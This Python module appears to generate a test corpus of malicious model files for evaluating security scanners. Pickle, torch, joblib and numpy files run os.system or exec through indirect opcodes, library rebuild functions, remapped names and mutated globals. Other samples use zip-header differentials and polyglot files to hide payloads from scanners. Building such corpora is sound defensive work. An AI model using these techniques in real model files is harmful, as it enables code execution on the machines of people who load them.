"""Malicious families set aside: written before any scanner was measured, and not shown to its author.

They differ in construction from those of `malicious`: a file is written and no code runs, methods are called by
opcodes other than REDUCE, names are registered while loading, containers mean one thing to the loader and another to
a reader of the same format.
"""

from __future__ import annotations

import bz2
import gzip
import io
import pickle
import struct
import tarfile
import zipfile
import zlib

import numpy as np

from . import Corpus
from .assemble import Evil, Ops, bomb, build, call, code, name, new, push, shell, stream, then, torch_zip, zipped

CORPUS = Corpus()
HARMLESS = stream({"weight": [1.0, 2.0]})


def carrier(**attributes) -> Ops:
    """An instance of an empty Python class with the given attributes."""
    return build(new("types:SimpleNamespace"), attributes)


def patched_class(**attributes) -> Ops:
    """A splitter class of scikit-learn with class attributes replaced: BUILD with slot state sets them."""
    return build(name("sklearn.model_selection._split:KFold"), (None, attributes))


def bound(function: str, *args) -> Ops:
    return call("functools:partial", name(function), *args)


# Extension registry: EXT1/2/4 name a callable by a number that an earlier step of the same stream registered.
put = CORPUS.malicious("extension_registry")
REGISTER = "copyreg:add_extension"


def extension(number: int, opcode: bytes = b"\x82", form: str = "<B") -> Ops:
    return Ops(opcode + struct.pack(form, number))


for opcode, number, form in ((b"\x82", 0x71, "<B"), (b"\x83", 0x7171, "<H"), (b"\x84", 0x717171, "<i")):
    put(
        f"ext-{struct.calcsize(form)}",
        lambda m, number=number, opcode=opcode, form=form: stream(
            then(call(REGISTER, "os", "system", number), call(extension(number, opcode, form), shell(m)))
        ),
    )
put(
    "registry-as-data",
    lambda m: stream(
        then(
            Ops(name("copyreg:_inverted_registry") + push(5) + push(("os", "system")) + pickle.SETITEM),
            call(extension(5), shell(m)),
        )
    ),
)
put(
    "cache-as-data",
    lambda m: stream(
        then(
            Ops(name("copyreg:_extension_cache") + push(6) + name("os:system") + pickle.SETITEM),
            call(extension(6), shell(m)),
        )
    ),
)
put(
    "registered-by-a-map",
    lambda m: stream(
        then(
            new("builtins:tuple", new("builtins:map", name(REGISTER), ["os"], ["system"], [9])),
            call(extension(9), shell(m)),
        )
    ),
)

# File writers: no code runs; a callable that looks like input and output of data creates the file.
put = CORPUS.malicious("file_writer")
ARRAY = Ops(pickle.dumps(np.zeros(1), 4)[2:-1])
put("open", lambda m: stream(call("builtins:open", str(m), "w")))
put("file-io", lambda m: stream(call("_io:FileIO", str(m), "w")))
put("path-touch", lambda m: stream(call("pathlib:Path.touch", call("pathlib:Path", str(m)))))
put("numpy-memmap", lambda m: stream(call("numpy:memmap", str(m), "uint8", "w+", 0, (1,))))
put("numpy-memmap-newobj", lambda m: stream(new("numpy:memmap", str(m), "uint8", "w+", 0, (1,))))
put("numpy-open-memmap", lambda m: stream(call("numpy.lib.format:open_memmap", str(m), "w+", "uint8", (1,))))
put("numpy-tofile", lambda m: stream(call("numpy:ndarray.tofile", ARRAY, str(m))))
put("numpy-savetxt", lambda m: stream(call("numpy:savetxt", str(m), [1, 2])))
put("pandas-to-csv", lambda m: stream(call("pandas:DataFrame.to_csv", call("pandas:DataFrame"), str(m))))
put("joblib-dump", lambda m: stream(call("joblib:dump", 1, str(m))), "model.joblib", "joblib")
put("torch-save", lambda m: torch_zip(stream(call("torch:save", 1, str(m)), 2)), "model.pt", "torch")
put("torch-from-file", lambda m: torch_zip(stream(call("torch:from_file", str(m), True, 8), 2)), "model.pt", "torch")
put("storage-from-file", lambda m: stream(call("torch.storage:UntypedStorage.from_file", str(m), True, 8)))
put("log-handler", lambda m: stream(call("logging:FileHandler", str(m))))
put("sqlite", lambda m: stream(call("sqlite3:connect", str(m))))
put("gzip-by-obj", lambda m: stream(Ops(b"(" + name("gzip:GzipFile") + push(str(m)) + push("wb") + b"o")))
put("copyfile", lambda m: stream(call("shutil:copyfile", "/dev/null", str(m))))

# State that runs: BUILD, or a rebuild function of the library itself, executes what it is given.
put = CORPUS.malicious("state_execution")
DISTRIBUTIONS = "scipy.stats._continuous_distns"


def distribution(marker, cls: str = f"{DISTRIBUTIONS}:norm_gen") -> Ops:
    """scipy.stats executes the text in `_parse_arg_template` when a distribution's state is restored."""
    return build(new(cls), {"_parse_arg_template": code(marker)})


put("scipy-normal", lambda m: stream(distribution(m)))
put("scipy-beta-protocol-2", lambda m: stream(distribution(m, f"{DISTRIBUTIONS}:beta_gen"), 2))
put("scipy-poisson", lambda m: stream(distribution(m, "scipy.stats._discrete_distns:poisson_gen")))
put("scipy-joblib", lambda m: stream(distribution(m)), "model.joblib", "joblib")
put(
    "scipy-inside-search",
    lambda m: stream(build(new("sklearn.model_selection._search:RandomizedSearchCV"), {"grid": distribution(m)})),
)
FX = "torch.fx.graph_module:reduce_graph_module"
put("fx-graph", lambda m: stream(call(FX, {"_code": code(m)}, "")))
put("fx-graph-in-pt", lambda m: torch_zip(stream(call(FX, {"_code": code(m)}, ""), 2)), "model.pt", "torch")
put(
    "rebuild-from-type",
    lambda m: torch_zip(
        stream(call("torch._tensor:_rebuild_from_type_v2", name("os:system"), name("torch:Tensor"), (shell(m),), None))
    ),
    "model.pt",
    "torch",
)
put(
    "generator-constructor",
    lambda m: stream(call("numpy.random._pickle:__generator_ctor", shell(m), name("os:system"))),
)
put(
    "defaultdict-factory",
    lambda m: stream(
        call(
            "collections:defaultdict.__missing__",
            call("collections:defaultdict", bound("os:system", shell(m))),
            1,
        )
    ),
)
put(
    "legacy-source-patch",  # torch writes "<name>.patch" for a container whose source differs
    lambda m: legacy_torch(
        push(
            (
                "module",
                build(
                    name("torch._utils:_rebuild_tensor_v2"),
                    (None, {"dump_patches": True, "__name__": str(m.with_suffix(""))}),
                ),
                "source.py",
                "different",
            )
        )
        + pickle.BINPERSID
    ),
    "model.pt",
    "torch",
)

# Implicit calls: BUILD, APPEND, SETITEM, ADDITEMS, NEWOBJ or hashing calls the function; there is no REDUCE of it.
put = CORPUS.malicious("implicit_call")
put("setstate-attribute", lambda m: stream(build(carrier(__setstate__=name("os:system")), shell(m))))
put(
    "setstate-of-estimator",
    lambda m: stream(build(build(new("sklearn.dummy:DummyClassifier"), {"__setstate__": name("os:system")}), shell(m))),
)
put("append", lambda m: stream(Ops(carrier(append=name("os:system")) + push(shell(m)) + pickle.APPEND)))
put("appends", lambda m: stream(Ops(carrier(append=name("os:system")) + b"(" + push(shell(m)) + pickle.APPENDS)))
put("additems", lambda m: stream(Ops(carrier(add=name("os:system")) + b"(" + push(shell(m)) + pickle.ADDITEMS)))
put(
    "setitem-of-patched-class",
    lambda m: stream(
        then(
            patched_class(__setitem__=bound("builtins:exec", code(m))),
            Ops(new("sklearn.model_selection._split:KFold") + push({}) + push({}) + pickle.SETITEM),
        )
    ),
)
put(
    "hash-of-patched-class",
    lambda m: stream(
        then(
            patched_class(__hash__=bound("os:system", shell(m))),
            Ops(pickle.EMPTY_SET + b"(" + new("sklearn.model_selection._split:KFold") + pickle.ADDITEMS),
        )
    ),
)
put(
    "new-of-patched-class",
    lambda m: stream(
        then(
            patched_class(__new__=bound("subprocess:call", ["touch", str(m)], -1, *[None] * 5)),
            new("sklearn.model_selection._split:KFold"),
        )
    ),
)
put(
    "array-wrapper-read",
    lambda m: stream(
        build(
            new("joblib.numpy_pickle:NumpyArrayWrapper"),
            {"read": bound("subprocess:call", shell(m), -1, *[None] * 5)},
        )
    ),
    "model.joblib",
    "joblib",
)

# Archives that PyTorch's zip reader and Python's `zipfile` understand differently.
put = CORPUS.malicious("zip_differential", "model.pt", "torch")


def two_archives(marker) -> bytes:
    """Two archives of one length: `zipfile` finds the second one's directory, PyTorch's reader the first one's."""
    evil = bomb(marker, 2)
    padded = HARMLESS + b" " * (len(evil) - len(HARMLESS))
    return torch_zip(evil) + torch_zip(padded)


def edited(archive: bytes, signature: bytes, offset: int, value: bytes, member: bytes = b"data.pkl") -> bytes:
    """Overwrite bytes of the local (PK\\3\\4) or central (PK\\1\\2) header that names `member`."""
    place = archive.index(signature)
    name_at = 30 if signature == LOCAL else 46
    while member not in archive[place + name_at : place + name_at + 40]:
        place = archive.index(signature, place + 4)
    return archive[: place + offset] + value + archive[place + offset + len(value) :]


LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"
put("two-central-directories", two_archives)
put("upper-case-name", lambda m: torch_zip(bomb(m, 2), pickle_name="DATA.PKL"))
put("mixed-case-twin-last", lambda m: torch_zip(HARMLESS, ("archive/data.pkl", bomb(m, 2)), pickle_name="Data.PKL"))
put("central-crc-wrong", lambda m: edited(torch_zip(bomb(m, 2)), CENTRAL, 16, b"\1\2\3\4"))
put("local-name-differs", lambda m: edited(torch_zip(bomb(m, 2)), LOCAL, 30, b"harmless"))
put("local-flag-encrypted", lambda m: edited(torch_zip(bomb(m, 2)), LOCAL, 6, b"\1\0"))
put("local-method-unknown", lambda m: edited(torch_zip(bomb(m, 2)), LOCAL, 8, b"\x63\0"))
put("local-size-zero", lambda m: edited(torch_zip(bomb(m, 2)), LOCAL, 18, bytes(8)))
put("version-needed-99", lambda m: edited(torch_zip(bomb(m, 2)), CENTRAL, 6, b"\x63\0"))
put("duplicate-first", lambda m: zipped(pair(bomb(m, 2), HARMLESS)))


def pair(first: bytes, second: bytes) -> list[tuple[str, bytes]]:
    return [("a/data.pkl", first), ("a/data.pkl", second), ("a/byteorder", b"little"), ("a/version", b"3\n")]


# Files that are two formats at once: the loader goes by the first bytes, other readers by the last.
put = CORPUS.malicious("polyglot")


def legacy_torch(*objects: bytes) -> bytes:
    """A pre-1.6 `torch.save` file: magic number, protocol, system information, then the given object and keys."""
    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

    system = {"protocol_version": PROTOCOL_VERSION, "little_endian": True}
    head = (pickle.dumps(part, 2) for part in (MAGIC_NUMBER, PROTOCOL_VERSION, system))
    return b"".join([*head, *(b"\x80\x02" + part + b"." for part in objects), pickle.dumps([], 2)])


def tar_of(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for member, content in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


BENIGN_PT = torch_zip(HARMLESS)
put("legacy-then-zip", lambda m: legacy_torch(call("os:system", shell(m))) + BENIGN_PT, "model.pt", "torch")
put("pickle-then-zip", lambda m: bomb(m) + BENIGN_PT, "model.pt", "torch")
put("pickle-then-zip-as-pkl", lambda m: bomb(m) + zipped([("readme.txt", b"nothing")]))
put("gzip-then-zip", lambda m: gzip.compress(bomb(m), mtime=0) + BENIGN_PT, "model.pkl.gz", "gzip")
put("bz2-then-pickle", lambda m: bz2.compress(bomb(m)) + HARMLESS, "model.pkl.bz2", "bz2")
put(
    "torch-tar-then-zip",
    lambda m: tar_of(storages=bomb(m, 2)) + zipped([("a.txt", b"")]),
    "model.pt",
    "torch",
)
put("pickle-named-npz", lambda m: bomb(m) + zipped([("a.npy", b"")]), "arrays.npz", "numpy")
put("pickle-then-json", lambda m: bomb(m) + b'\n{"a": 1}\n', "model.json")
put("pickle-after-none", lambda m: stream(then(None, *([1] * 2000), call("os:system", shell(m)))), "weights.bin")

# Old and other torch formats.
put = CORPUS.malicious("torch_formats", "model.pt", "torch")
NOTHING = pickle.dumps(0, 2)
put("tar-storages", lambda m: tar_of(storages=bomb(m, 2)))
put("tar-storage-views", lambda m: tar_of(storages=NOTHING + bomb(m, 2)))
put("tar-tensors", lambda m: tar_of(storages=NOTHING + pickle.dumps([], 2), tensors=bomb(m, 2)))
put("tar-pickle", lambda m: tar_of(storages=NOTHING + pickle.dumps([], 2), tensors=NOTHING, pickle=bomb(m, 2)))


def scripted(marker) -> bytes:
    """A scripted module whose `__setstate__`, run by the loader, maps (and so creates) a file."""
    import torch

    class Writer(torch.nn.Module):
        def __init__(self, path: str):
            super().__init__()
            self.path = path
            self.mapped = torch.zeros(1)

        @torch.jit.export
        def __getstate__(self):
            return self.path, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]):
            self.path, self.training = state[0], state[1]
            self.mapped = torch.from_file(self.path, shared=True, size=1, dtype=torch.uint8)

        def forward(self):
            return 0

    unsaved = Writer("")
    module = torch.jit.script(unsaved)
    module.path = str(marker)
    buffer = io.BytesIO()
    torch.jit.save(module, buffer)
    return buffer.getvalue()


put("torchscript", scripted)
put("torchscript-bin", scripted, "pytorch_model.bin")

# Python 2 names that the unpickler maps to new ones below protocol 3.
put = CORPUS.malicious("python2_names")
put("builtin-eval", lambda m: stream(call("__builtin__:eval", f"[{code(m)}]"), 2))
put("commands", lambda m: stream(call("commands:getoutput", shell(m)), 0))
put("stringio-open", lambda m: stream(call("StringIO:open", str(m), "w"), 1))
put("cpickle-loads", lambda m: stream(call("cPickle:loads", bomb(m)), 2))
put("no-protocol", lambda m: stream(call("__builtin__:eval", f"[{code(m)}]"), None))
put("itertools-imap", lambda m: py2_map(m))
put("late-downgrade", lambda m: b"\x80\x04" + stream(call("__builtin__:eval", f"[{code(m)}]"), 2))
put("name-table-as-data", lambda m: stream(then(renamed("numpy", "array"), call("numpy:array", shell(m))), 2))


def py2_map(marker) -> bytes:
    """itertools.imap is builtins.map now, and a tuple consumes it."""
    return stream(new("__builtin__:tuple", new("itertools:imap", name("os:system"), [shell(marker)])), 2)


def renamed(module: str, attribute: str) -> Ops:
    """Change the table by which the unpickler renames Python 2 names."""
    return Ops(
        name("_compat_pickle:NAME_MAPPING") + push((module, attribute)) + push(("os", "system")) + pickle.SETITEM
    )


# Calls while the persistent id of a tensor is being built.
put = CORPUS.malicious("torch_formats", "model.pt", "torch")
put("inside-persistent-id", lambda m: torch_zip(stream(Ops(call("os:system", shell(m)) + pickle.BINPERSID), 2)))
put(
    "as-storage-location",
    lambda m: torch_zip(
        stream(
            Ops(push(("storage", name("torch:FloatStorage"), "0", call("os:system", shell(m)), 0)) + pickle.BINPERSID),
            2,
        )
    ),
)
# Globals as data: a dictionary or module of the interpreter is changed, then an innocent name means something else.
put = CORPUS.malicious("global_mutation")
put(
    "module-table",
    lambda m: stream(
        then(
            Ops(name("sys:modules") + push("sklearn.dummy") + name("torch:os") + pickle.SETITEM),
            call("sklearn.dummy:system", shell(m)),
        )
    ),
)
put(
    "module-attribute",
    lambda m: stream(
        then(build(name("numpy:linalg"), {"norm": name("os:system")}), call("numpy.linalg:norm", shell(m)))
    ),
)
put(
    "function-defaults",
    lambda m: stream(
        then(
            build(
                name("numpy.random._pickle:__generator_ctor"), (None, {"__defaults__": (shell(m), name("os:system"))})
            ),
            call("numpy.random._pickle:__generator_ctor"),
        )
    ),
)
put(
    "class-method",
    lambda m: stream(
        then(
            build(name("sklearn.model_selection._split:KFold"), (None, {"split": name("os:system")})),
            call("sklearn.model_selection._split:KFold.split", shell(m)),
        )
    ),
)

# Names re-exported by allowlisted packages, reached without dots in the attribute.
put = CORPUS.malicious("reexported_name")
SYSTEM = call(
    call("torch.autograd.profiler_util:attrgetter", "system"), call("scipy._lib.deprecation:import_module", "os")
)
put("import-module", lambda m: stream(call(SYSTEM, shell(m))))
put("joblib-loads", lambda m: stream(call("joblib._memmapping_reducer:loads", bomb(m))))
put("loky-loads", lambda m: stream(call("joblib.externals.loky.cloudpickle_wrapper:loads", bomb(m))))
put("numpy-open", lambda m: stream(call("numpy.lib._datasource:_open", str(m), "w")))
put(
    "sklearn-path",
    lambda m: stream(call("sklearn.utils.discovery:Path.touch", call("sklearn.utils.discovery:Path", str(m)))),
)
put(
    "sklearn-partial",
    lambda m: stream(call(call("sklearn.metrics._scorer:partial", SYSTEM, shell(m)))),
)
put(
    "numpy-reduce",
    lambda m: stream(call("sklearn.utils.validation:reduce", name("builtins:exec"), [code(m), {}])),
)

# Array containers: headers that spell "object" in other ways, members that are not named as arrays.
put = CORPUS.malicious("array_header", "array.npy", "numpy")


def npy(descr: str, payload: bytes, shape="(1,)", version=(1, 0), order="False", spaces: str = "") -> bytes:
    """A .npy file with the header text given, and `payload` where the pickle of an object array stands."""
    text = f"{{'descr': {descr}, {spaces}'fortran_order': {order}, 'shape': {shape}, }}\n".encode()
    return b"\x93NUMPY" + bytes(version) + struct.pack("<H" if version[0] == 1 else "<I", len(text)) + text + payload


put("object-spelled-out", lambda m: npy("'object'", bomb(m)))
put("object-8", lambda m: npy("'O8'", bomb(m)))
put("object-field", lambda m: npy("[('a', '<i4'), ('b', '|O')]", bomb(m)))
put("object-nested-field", lambda m: npy("[('a', [('b', [('c', 'O')])])]", bomb(m)))
put("object-subarray", lambda m: npy("[('a', 'O', (2, 2))]", bomb(m)))
put("version-2", lambda m: npy("'|O'", bomb(m), version=(2, 0)))
put("version-3-field-name", lambda m: npy("[('µ', '|O')]", bomb(m), version=(3, 0)))
put("empty-shape", lambda m: npy("'|O'", bomb(m), shape="()", order="True"))
put("npz-odd-member-name", lambda m: zipped([("weights.bin", npy("'|O'", bomb(m)))]), "arrays.npz")
put("npz-bzip2", lambda m: bzipped(npy("'>O'", bomb(m))), "arrays.npz")
put("npz-in-a-folder", lambda m: zipped([("a/b/c.npy", npy("'|O'", bomb(m)))]), "arrays.npz")
put("npz-named-npy", lambda m: zipped([("a.npy", npy("'|O'", bomb(m)))]))


def bzipped(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("ok.npy", npy("'<f8'", bytes(8)))
        archive.writestr("array.npy", content)
    return buffer.getvalue()


# Array wrappers of joblib: raw bytes follow the wrapper, so a stream means one thing to joblib and another to pickle.
put = CORPUS.malicious("array_wrapper", "model.joblib", "joblib")


def wrapper(dtype="u1", shape=(1,), **state) -> Ops:
    """A joblib array wrapper; `dtype` may be Ops that leave any object."""
    dtype = dtype if isinstance(dtype, Ops) else call("numpy:dtype", dtype)
    return build(
        new("joblib.numpy_pickle:NumpyArrayWrapper"),
        {
            "subclass": name("numpy:ndarray"),
            "shape": shape,
            "order": "C",
            "dtype": dtype,
            "allow_mmap": False,
            "numpy_array_alignment_bytes": None,
            **state,
        },
    )


def after(raw: bytes, array: Ops, tail: Ops) -> bytes:
    return b"\x80\x04" + array + raw + b"0" + tail + b"."


def run(marker) -> Ops:
    return call("os:system", shell(marker))


def rest(marker) -> bytes:
    """Opcodes that fire when a plain unpickler goes on reading after the wrapper."""
    return b"0" + run(marker) + b"."


put("stop-is-data", lambda m: after(b".", wrapper(), run(m)))
put("raw-bytes-for-pickle", lambda m: after(rest(m), wrapper(shape=(len(rest(m)),)), push(1)), loader="pickle")
put(
    "padding-for-pickle",  # the length byte of the padding is the opcode MEMOIZE; 148 bytes of padding follow it
    lambda m: after(b"\x94" + rest(m).ljust(0x94, b"\xff") + b"\1", wrapper(numpy_array_alignment_bytes=16), push(1)),
    loader="pickle",
)
put(
    "item-size-in-dtype-state",
    lambda m: after(b"0N.".ljust(64, b"\xff"), wrapper(resized("S1", 64)), run(m)),
)
put(
    "object-dtype-in-state",
    lambda m: after(
        bomb(m), wrapper(build(new("types:SimpleNamespace"), {"hasobject": True, "byteorder": "|"})), push(1)
    ),
)
put("object-field", lambda m: after(bomb(m), wrapper(Ops(pickle.dumps(np.dtype([("a", "O")]), 4)[2:-1])), push(1)))
put("empty-object-array", lambda m: after(bomb(m), wrapper("O", shape=(0,)), push(1)))
put("no-dimensions", lambda m: after(b".", wrapper(shape=()), run(m)))
put("old-zlib-file", lambda m: b"ZF" + hex(len(bomb(m))).ljust(19).encode() + zlib.compress(bomb(m)))


def resized(text: str, size: int) -> Ops:
    """A dtype whose item size is changed by its state."""
    return build(call("numpy:dtype", text, False, True), (3, "|", None, None, None, size, 1, 0))


def around_arrays(marker) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump([np.arange(3), {"x": np.array([Evil(eval, code(marker))], dtype=object)}, np.ones(2)], buffer)
    return buffer.getvalue()


put("dump-around-arrays", around_arrays)
